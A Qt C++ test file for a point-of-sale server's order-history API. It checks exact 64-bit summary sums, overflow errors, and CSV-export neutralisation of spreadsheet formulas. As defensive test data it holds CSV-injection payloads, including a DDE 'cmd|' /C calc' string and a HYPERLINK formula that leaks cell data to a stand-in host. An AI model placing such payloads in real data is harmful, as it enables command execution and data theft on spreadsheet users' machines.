// Review fixes of the order history (docs/manager-api.md, "Order history"), on SQLite and on
// PostgreSQL (COMPTOIR_TEST_PG_URL): the summary's sums are exact 64-bit integers on both
// databases and refuse to overflow, and the CSV export cannot smuggle a spreadsheet formula into
// the manager's Excel while its amounts stay plain integers.

#include "Database.h"
#include "HttpTestClient.h"
#include "PinHasher.h"
#include "ServerApp.h"
#include "ServerClock.h"
#include "TerminalStore.h"
#include "TestDatabase.h"
#include "UserStore.h"
#include "history/HistoryModule.h"
#include "payments/PaymentsModule.h"

#include <QDateTime>
#include <QJsonDocument>
#include <QStandardPaths>
#include <QTest>
#include <QTimeZone>

#include <memory>

using namespace Qt::StringLiterals;

namespace {

// 2^53 - 1: the largest amount an order may hold.
constexpr qint64 kMaxOrder = 9007199254740991;
const qint64 kNow =
    QDateTime(QDate(2026, 11, 25), QTime(10, 0), QTimeZone::utc()).toMSecsSinceEpoch();

} // namespace

class tst_HistoryReview : public QObject
{
    Q_OBJECT

private slots:
    void initTestCase_data();
    void initTestCase();
    void cleanupTestCase();
    void init();
    void cleanup();

    void summary_sumsPast2Pow53_areExact();
    void summary_sumPastInt64_isAnErrorNotAFigure();
    void exportCsv_formulaCells_areNeutralised_amountsStayIntegers();

private:
    void addOrder(int n, qint64 total, const QString &cashierId, const QString &payer = {},
                  const QString &operatorName = {});
    HttpTestReply get(const QString &path) const;

    std::unique_ptr<TestDatabase> m_db;
    std::unique_ptr<ServerApp> m_app;
    QByteArray m_token;
    QByteArray m_manager;
    QString m_terminalId;
    QString m_managerId;
};

void tst_HistoryReview::initTestCase_data()
{
    TestDatabase::addBackendRows();
}

void tst_HistoryReview::initTestCase()
{
    QStandardPaths::setTestModeEnabled(true);
    ServerClock::setNowForTesting([] { return kNow; });
}

void tst_HistoryReview::cleanupTestCase()
{
    ServerClock::setNowForTesting({});
}

void tst_HistoryReview::init()
{
    QFETCH_GLOBAL(QString, backend);
    m_db = std::make_unique<TestDatabase>(backend);
    if (!m_db->isAvailable())
        QSKIP("COMPTOIR_TEST_PG_URL is not set (make test starts PostgreSQL)");
    QVERIFY2(m_db->create(), qPrintable(m_db->errorString()));
    ServerConfig config;
    config.set(u"database/url"_s, m_db->url());
    config.set(u"server/listen"_s, u"127.0.0.1:0"_s);
    config.set(u"auth/pin_hash_ops"_s, 1);
    config.set(u"auth/pin_hash_memory_kib"_s, 64);
    config.set(u"payments/sweep_interval_ms"_s, 3600000);
    m_app = std::make_unique<ServerApp>(std::move(config));
    m_app->addModule(std::make_unique<PaymentsModule>());
    m_app->addModule(std::make_unique<HistoryModule>());
    QVERIFY2(m_app->start(), qPrintable(m_app->errorString()));

    // A terminal name a spreadsheet would read as a formula.
    const auto terminal = TerminalStore(m_app->db()).add(u"@SUM(1+1)*cmd|' /C calc'!A0"_s);
    QVERIFY(terminal);
    m_terminalId = QString::number(terminal->first.id);
    m_token = terminal->second;
    UserStore::User manager;
    QCOMPARE(UserStore(m_app->db())
                 .add(u"Moussa"_s, UserRole::Manager, m_app->pinHasher().hash(u"9999"_s), &manager),
             UserStore::Outcome::Done);
    m_managerId = QString::number(manager.id);
    HttpTestClient client(m_app->baseUrl());
    client.setHeader("Authorization", "Bearer " + m_token);
    m_manager = client
                    .post(u"/api/v1/sessions"_s,
                          QJsonObject{{u"user"_s, u"Moussa"_s}, {u"pin"_s, u"9999"_s}})
                    .json()
                    .value(u"token"_s)
                    .toString()
                    .toLatin1();
    QVERIFY(!m_manager.isEmpty());
}

void tst_HistoryReview::cleanup()
{
    m_app.reset();
    m_db.reset();
}

void tst_HistoryReview::addOrder(int n, qint64 total, const QString &cashierId,
                                 const QString &payer, const QString &operatorName)
{
    const QVariant nullText(QMetaType(QMetaType::QString));
    const auto inserted = m_app->db().exec(
        u"INSERT INTO orders (id, terminal_id, cashier_id, method, currency, total, lines_json, "
        u"request_hash, status, paid_amount, payer, operator_name, created_at, updated_at) "
        u"VALUES (?, ?, ?, 'ligdicash', 'XOF', ?, '[]', 'h', 'paid', ?, ?, ?, ?, ?)"_s,
        {u"0000%1-0000-4000-8000-000000000000"_s.arg(n, 4, 10, QChar(u'0')), m_terminalId,
         cashierId, total, total, payer.isEmpty() ? nullText : QVariant(payer),
         operatorName.isEmpty() ? nullText : QVariant(operatorName), kNow - 3600000 + n,
         kNow - 3600000 + n});
    QVERIFY2(inserted, qPrintable(m_app->db().errorString()));
}

HttpTestReply tst_HistoryReview::get(const QString &path) const
{
    HttpTestClient client(m_app->baseUrl());
    client.setHeader("Authorization", "Bearer " + m_token);
    client.setHeader("X-Comptoir-Session", m_manager);
    return client.get(path);
}

void tst_HistoryReview::summary_sumsPast2Pow53_areExact()
{
    // 3 x (2^53 - 1) = 27021597764222973: no double holds it (PostgreSQL's SUM is numeric).
    for (int n = 1; n <= 3; ++n) {
        addOrder(n, kMaxOrder, m_managerId);
        if (QTest::currentTestFailed())
            return;
    }
    // And a round figure, which a double would print as "1e+15".
    const HttpTestReply all = get(u"/api/v1/history/summary"_s);
    QCOMPARE(all.status, 200);
    QCOMPARE(all.json().value(u"count"_s).toInteger(), 3);
    QCOMPARE(all.json().value(u"total"_s).toInteger(), Q_INT64_C(27021597764222973));
    QCOMPARE(all.json().value(u"paid_total"_s).toInteger(), Q_INT64_C(27021597764222973));
    QVERIFY2(all.body.contains("27021597764222973"), all.body.constData());

    QVERIFY(m_app->db().exec(u"UPDATE orders SET total = 500000000000000"_s));
    const HttpTestReply round = get(u"/api/v1/history/summary"_s);
    QCOMPARE(round.status, 200);
    QCOMPARE(round.json().value(u"total"_s).toInteger(), Q_INT64_C(1500000000000000));
    QCOMPARE(round.json().value(u"paid_total"_s).toInteger(), Q_INT64_C(1500000000000000));
}

void tst_HistoryReview::summary_sumPastInt64_isAnErrorNotAFigure()
{
    // 1025 x (2^53 - 1) > 2^63 - 1.
    QVERIFY(m_app->db().inTransaction([&] {
        for (int n = 1; n <= 1025; ++n) {
            addOrder(n, kMaxOrder, m_managerId);
            if (QTest::currentTestFailed())
                return false;
        }
        return true;
    }));
    const HttpTestReply reply = get(u"/api/v1/history/summary"_s);
    QVERIFY2(reply.status >= 500, reply.body.constData());
    QVERIFY2(!reply.json().contains(u"total"_s), reply.body.constData());
    if (m_db->isPostgres())
        QCOMPARE(reply.errorCode(), u"overflow"_s);
}

void tst_HistoryReview::exportCsv_formulaCells_areNeutralised_amountsStayIntegers()
{
    UserStore::User cashier;
    QCOMPARE(UserStore(m_app->db())
                 .add(u"=HYPERLINK(\"http://x.example/?\"&A1,\"Awa\")"_s, UserRole::Cashier,
                      m_app->pinHasher().hash(u"1234"_s), &cashier),
             UserStore::Outcome::Done);
    addOrder(1, 4500, QString::number(cashier.id), u"+22670000001"_s, u"-1+cmd"_s);
    addOrder(2, 1500, m_managerId, u"=2+5"_s, u"ORANGE BURKINA"_s);

    const HttpTestReply reply = get(u"/api/v1/history/export.csv?sort=created_asc"_s);
    QCOMPARE(reply.status, 200);
    const QList<QByteArray> lines = reply.body.mid(3).split('\n');
    QVERIFY(lines.size() >= 3);
    // order_id,created_at,status,method,total,paid_amount,currency,terminal,cashier,operator,
    // customer_number,reference,tendered,change,flags
    QCOMPARE(lines.at(1).trimmed(),
             QByteArray("00000001-0000-4000-8000-000000000000,2026-11-25 09:00:00,paid,ligdicash,"
                        "4500,4500,XOF,'@SUM(1+1)*cmd|' /C calc'!A0,"
                        "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"Awa\"\")\",'-1+cmd,"
                        "+22670000001,,,,"));
    QCOMPARE(
        lines.at(2).trimmed(),
        QByteArray("00000002-0000-4000-8000-000000000000,2026-11-25 09:00:00,paid,ligdicash,"
                   "1500,1500,XOF,'@SUM(1+1)*cmd|' /C calc'!A0,Moussa,ORANGE BURKINA,'=2+5,,,,"));
}

QTEST_GUILESS_MAIN(tst_HistoryReview)
#include "tst_history_review.moc"
